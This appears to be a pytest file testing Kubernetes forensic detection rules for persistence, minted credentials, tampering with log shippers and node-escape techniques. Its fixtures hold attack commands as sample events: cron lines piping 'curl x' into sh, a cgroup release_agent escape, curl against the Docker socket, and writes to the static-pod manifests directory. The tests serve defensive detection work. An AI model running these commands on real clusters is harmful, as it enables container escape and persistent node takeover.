"""Persistence, minted credentials and cover-up in the audit log, and the node takeovers a
runtime sensor shows: each rule on the smallest events that show what it must and must not match."""

from __future__ import annotations

import pandas as pd

from k8sforensics.detect import BUILTIN_RULES, Evidence
from k8sforensics.detect import audit_rules as ar
from k8sforensics.detect import runtime_rules as rr
from k8sforensics.detect.engine import run_rules
from tests.event_frames import audit, frame


def run(logic, table: str, *rows, **kw) -> pd.DataFrame:
    rule = next(r for r in BUILTIN_RULES if r.logic is logic)
    found, _ = run_rules(Evidence(**{table: frame(table, *rows)}, **kw), [rule])
    return found


def _mirror(time: str, ns: str, name: str, privileged: bool = False) -> dict:
    body = {
        "metadata": {"name": name, "namespace": ns, "annotations": {"kubernetes.io/config.mirror": "x"}},
        "spec": {"containers": [{"name": "c", "securityContext": {"privileged": privileged}}]},
    }
    return audit(
        time, "system:node:node-2", "create", "pods", object_namespace=ns, object_name=name, request_object=body
    )


def test_a_new_static_pod_in_kube_system_counts_but_the_control_planes_own_do_not() -> None:
    pods = pd.DataFrame(
        {
            "namespace": ["kube-system"],
            "name": ["etcd-node-2"],
            "created": [pd.Timestamp("2026-01-01T00:00:00Z")],
            "images": [["registry.k8s.io/etcd:3.5"]],
        }
    )
    rows = [
        audit("2026-03-10T08:00:00Z", "system:node:node-2", "update", "leases"),
        _mirror(
            "2026-03-10T08:10:00Z", "kube-system", "kube-apiserver-node-2"
        ),  # a kubelet restart in the learning window
        _mirror("2026-03-10T10:00:00Z", "kube-system", "etcd-node-2"),  # in the inventory from before
        _mirror("2026-03-10T10:20:00Z", "kube-system", "kube-proxy-node-2", privileged=True),
        _mirror("2026-03-10T10:30:00Z", "default", "web-node-2"),
    ]
    hits = run(ar.static_mirror_pod, "audit", *rows, context={"pods": pods})
    assert hits["entity"].tolist() == ["kube-system/kube-proxy-node-2", "default/web-node-2"]
    assert hits["severity"].tolist() == ["high", "medium"] and set(hits["technique_id"]) == {"MS-TA9017"}


def test_a_burst_of_pod_deletions_but_not_a_controllers_or_one_restart() -> None:
    rows = [
        audit(f"2026-03-10T10:0{i}:00Z", "mallory", "delete", "pods", object_namespace="shop", object_name=f"p{i}")
        for i in range(5)
    ]
    rows += [
        audit(
            f"2026-03-10T10:0{i}:00Z",
            "system:serviceaccount:kube-system:replicaset-controller",
            "delete",
            "pods",
            object_namespace="shop",
            object_name=f"q{i}",
        )
        for i in range(6)
    ]
    rows += [audit("2026-03-10T11:00:00Z", "bob", "delete", "pods", object_namespace="shop", object_name="stuck")]
    hits = run(ar.pod_deletion_burst, "audit", *rows)
    assert hits["user"].tolist() == ["mallory"] and hits.loc[0, "event_count"] == 5
    assert hits.loc[0, "technique_id"] == "MS-TA9021"


def test_a_log_shipper_removed_or_sent_nowhere_but_not_upgraded() -> None:
    nowhere = {"spec": {"template": {"spec": {"nodeSelector": {"no-such-label": "x"}}}}}
    upgrade = {
        "spec": {"template": {"spec": {"containers": [{"name": "fluent-bit", "image": "fluent/fluent-bit:3.1"}]}}}
    }
    rows = [
        audit(
            "2026-03-10T10:00:00Z",
            "mallory",
            "patch",
            "daemonsets",
            object_namespace="logging",
            object_name="fluent-bit",
            request_object=nowhere,
        ),
        audit("2026-03-10T10:01:00Z", "mallory", "delete", "daemonsets", object_namespace="falco", object_name="falco"),
        audit(
            "2026-03-10T10:02:00Z",
            "ci-bot",
            "patch",
            "daemonsets",
            object_namespace="logging",
            object_name="fluent-bit",
            request_object=upgrade,
        ),
        audit(
            "2026-03-10T10:03:00Z", "mallory", "delete", "daemonsets", object_namespace="shop", object_name="web-cache"
        ),
    ]
    hits = run(ar.defence_agent_tampered, "audit", *rows)
    assert hits["entity"].tolist() == ["daemonsets/logging/fluent-bit", "daemonsets/falco/falco"]
    assert set(hits["attack_id"]) == {"T1562.001"}


def test_a_service_account_made_by_a_person_not_by_the_controller() -> None:
    rows = [
        audit(
            "2026-03-10T10:00:00Z",
            "system:serviceaccount:kube-system:service-account-controller",
            "create",
            "serviceaccounts",
            object_namespace="shop",
            object_name="default",
        ),
        audit(
            "2026-03-10T10:01:00Z",
            "mallory",
            "create",
            "serviceaccounts",
            object_namespace="kube-system",
            object_name="keeper",
        ),
    ]
    hits = run(ar.serviceaccount_create, "audit", *rows)
    assert hits["entity"].tolist() == ["serviceaccounts/kube-system/keeper"] and hits.loc[0, "severity"] == "medium"


def test_certificates_and_token_secrets_are_minted_credentials() -> None:
    token = {
        "type": "kubernetes.io/service-account-token",
        "metadata": {"annotations": {"kubernetes.io/service-account.name": "keeper"}},
    }
    rows = [
        audit("2026-03-10T10:00:00Z", "mallory", "create", "certificatesigningrequests", object_name="backdoor"),
        audit(
            "2026-03-10T10:01:00Z",
            "mallory",
            "update",
            "certificatesigningrequests",
            subresource="approval",
            object_name="backdoor",
        ),
        audit(
            "2026-03-10T10:02:00Z",
            "mallory",
            "create",
            "secrets",
            object_namespace="kube-system",
            object_name="keeper-token",
            request_object=token,
        ),
        audit(
            "2026-03-10T10:03:00Z",
            "mallory",
            "create",
            "secrets",
            object_namespace="shop",
            object_name="tls",
            request_object={"type": "kubernetes.io/tls"},
        ),
        audit(
            "2026-03-10T10:04:00Z", "system:node:n1", "create", "certificatesigningrequests", object_name="node-csr-abc"
        ),
    ]
    hits = run(ar.token_request, "audit", *rows)
    assert hits["attack_id"].tolist() == ["T1649", "T1649", "T1528"]
    assert hits["severity"].tolist() == ["medium", "high", "medium"]  # the approval issues the certificate
    assert "long-lived service-account token Secret" in hits.loc[2, "summary"]


def _proc(time: str, cmd: str, process: str, **kw) -> dict:
    return {
        "time": time,
        "event_type": "exec",
        "container_id": "c1",
        "namespace": "kube-system",
        "pod": "node-agent-abc",
        "node": "node-2",
        "process": process,
        "cmdline": cmd,
        **kw,
    }


def test_cgroup_release_agent_escapes_by_command_and_by_file() -> None:
    rows = [
        _proc("2026-03-10T10:00:00Z", "mount -t cgroup -o rdma cgroup /tmp/cgrp", "/bin/mount"),
        {
            "time": "2026-03-10T10:01:00Z",
            "event_type": "file",
            "container_id": "c1",
            "namespace": "kube-system",
            "pod": "node-agent-abc",
            "process": "/bin/sh",
            "file_path": "/tmp/cgrp/x/notify_on_release",
        },
        _proc("2026-03-10T10:02:00Z", "mount /proc/self/mounts", "/bin/mount"),
    ]
    hits = run(rr.host_escape, "runtime", *rows)
    assert len(hits) == 1 and hits.loc[0, "event_count"] == 2 and hits["attack_id"].tolist() == ["T1611"]  # one session


def test_a_runtime_socket_used_from_a_container_but_not_the_nodes_own_crictl() -> None:
    rows = [
        _proc(
            "2026-03-10T10:00:00Z",
            "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
            "/usr/bin/curl",
        ),
        _proc(
            "2026-03-10T10:20:00Z", "crictl -r unix:///host/run/containerd/containerd.sock ps", "/usr/local/bin/crictl"
        ),
        {
            "time": "2026-03-10T10:40:00Z",
            "event_type": "exec",
            "node": "node-2",
            "process": "/usr/bin/crictl",
            "cmdline": "crictl ps",
        },
    ]
    hits = run(rr.runtime_socket, "runtime", *rows)
    assert hits["entity"].tolist() == ["kube-system/node-agent-abc", "kube-system/node-agent-abc"]
    assert hits.loc[0, "severity"] == "critical"


def test_a_crontab_through_a_host_path_is_the_nodes_but_a_containers_own_is_medium() -> None:
    pods = pd.DataFrame(
        {"namespace": ["kube-system", "shop"], "name": ["node-agent-abc", "web-1"], "host_paths": [["/etc"], []]}
    )
    rows = [
        _proc("2026-03-10T10:00:00Z", "sh -c echo '* * * * * root curl x|sh' > /etc/cron.d/sync", "/bin/sh"),
        _proc(
            "2026-03-10T10:30:00Z",
            "sh -c echo '* * * * * curl x|sh' >> /etc/crontab",
            "/bin/sh",
            namespace="shop",
            pod="web-1",
        ),
        _proc("2026-03-10T11:00:00Z", "crontab -l", "/usr/bin/crontab", namespace="shop", pod="web-1"),
    ]
    hits = run(rr.host_cron, "runtime", *rows, context={"pods": pods})
    assert hits["entity"].tolist() == ["kube-system/node-agent-abc", "shop/web-1"]
    assert hits["severity"].tolist() == ["high", "medium"] and hits["technique_id"].tolist()[0] == "MS-TA9013"


def test_the_kubelet_reading_its_manifests_is_not_a_static_pod_write() -> None:
    rows = [
        {
            "time": "2026-03-10T10:00:00Z",
            "event_type": "file",
            "node": "node-2",
            "process": "/usr/bin/kubelet",
            "file_path": "/etc/kubernetes/manifests/etcd.yaml",
        },
        {
            "time": "2026-03-10T10:01:00Z",
            "event_type": "file",
            "container_id": "c1",
            "namespace": "kube-system",
            "pod": "node-agent-abc",
            "node": "node-2",
            "process": "/bin/cp",
            "file_path": "/host/etc/kubernetes/manifests/kube-proxy.yaml",
        },
    ]
    alert = {
        "time": "2026-03-10T10:30:00Z",
        "event_type": "alert",
        "rule": "Write below etc",
        "container_id": "c2",
        "namespace": "default",
        "pod": "node-debugger",
        "node": "node-2",
        "process": "/bin/sh",
        "cmdline": 'sh -c "cat > /host/etc/kubernetes/manifests/helper.yaml"',
    }  # Falco names the command, not the file
    hits = run(rr.static_manifest, "runtime", *rows, alert)
    assert hits["entity"].tolist() == ["kube-system/node-agent-abc", "default/node-debugger"]
